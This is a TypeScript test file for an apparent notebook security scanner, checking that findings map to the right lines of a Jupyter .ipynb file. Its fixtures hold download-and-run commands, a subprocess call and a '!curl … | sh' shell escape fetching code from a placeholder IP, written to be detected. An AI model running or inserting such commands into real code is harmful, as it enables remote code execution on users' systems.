import { describe, expect, it } from 'vitest';
import { notebookSource } from './code/notebook-source.js';
import { notebookFindings } from './repositories/notebook-findings.js';

// A notebook as nbformat writes it: one key a line, keys sorted (outputs before source), indent 1.
function nbformatText(cells: { type: 'code' | 'markdown'; source: string; output?: string }[]): string {
  const c = cells.map((x) =>
    x.type === 'markdown'
      ? { cell_type: 'markdown', metadata: {}, source: x.source.split(/(?<=\n)/) }
      : { cell_type: 'code', execution_count: 1, metadata: {}, outputs: x.output === undefined ? [] : [{ name: 'stdout', output_type: 'stream', text: x.output.split(/(?<=\n)/) }], source: x.source.split(/(?<=\n)/) },
  );
  return JSON.stringify({ cells: c, metadata: {}, nbformat: 4, nbformat_minor: 5 }, null, 1) + '\n';
}

const lineOf = (text: string, needle: string) => text.slice(0, text.indexOf(needle)).split('\n').length;

describe('notebook findings name the line of the notebook file (tqdm DEMO.ipynb read 116 for code at 570)', () => {
  const cells = [
    { type: 'markdown' as const, source: '# Demo\nThis notebook shows a progress bar.\n' },
    // The output repeats a source line: it comes first in the file and must not be taken for it.
    { type: 'code' as const, source: 'import os\nprint("import subprocess")\n', output: 'import subprocess\n' },
    { type: 'markdown' as const, source: 'Now the download:\n' },
    { type: 'code' as const, source: 'import subprocess\nsubprocess.run(["bash", "-c", "curl -s https://203.0.113.9/x | sh"])\n!curl -s https://203.0.113.9/y | sh\n' },
  ];
  const text = nbformatText(cells);

  it('maps every line of the joined program to its source entry in the file', () => {
    const nb = notebookSource(text)!;
    const program = nb.python.split('\n');
    program.forEach((line, i) => {
      const needle = JSON.stringify(line + '\n').slice(0, -1);
      if (line.trim() === '' || text.indexOf(needle) !== text.lastIndexOf(needle)) return;
      expect(nb.fileLines[i]).toBe(lineOf(text, needle));
    });
    // `import subprocess` is first in cell 2's output: the source entry of cell 4 is the one.
    expect(nb.fileLines[program.indexOf('import subprocess')]).toBe(lineOf(text, '"import subprocess\\n",\n    "subprocess'));
    // The escape's line is the file line of `!curl …`.
    expect(nb.shell.map((s) => nb.fileLines[s.line - 1])).toEqual([lineOf(text, '"!curl')]);
  });

  it('reports findings on the notebook file’s lines', () => {
    const out = notebookFindings('DEMO.ipynb', text);
    const run = lineOf(text, '"subprocess.run(');
    const escape = lineOf(text, '"!curl');
    expect(out.length).toBeGreaterThan(0);
    for (const f of out) expect([run, escape, lineOf(text, '"import subprocess\\n",\n    "subprocess')]).toContain(f.line);
    expect(out.some((f) => f.line === run)).toBe(true);
    expect(out.some((f) => f.line === escape)).toBe(true);
  });

  it('gives line 1 to a notebook written on one line, and reads entries however the file escapes them', () => {
    const oneLine = JSON.stringify({ cells: [{ cell_type: 'code', metadata: {}, outputs: [], source: ['import os\n', 'os.system("id")\n'] }], nbformat: 4 });
    expect(notebookSource(oneLine)!.fileLines.slice(0, 2)).toEqual([1, 1]);
    // Non-ASCII escaped as \u in the file: the entries are the array's strings, in order.
    const escaped = '{\n "cells": [\n  {\n   "cell_type": "code",\n   "metadata": {},\n   "outputs": [],\n   "source": [\n    "x = 1\\n",\n    "s = \'\\u00e9\'\\n",\n    "y = 2"\n   ]\n  }\n ],\n "nbformat": 4\n}\n';
    expect(notebookSource(escaped)!.fileLines.slice(0, 3)).toEqual([8, 9, 10]);
  });
});
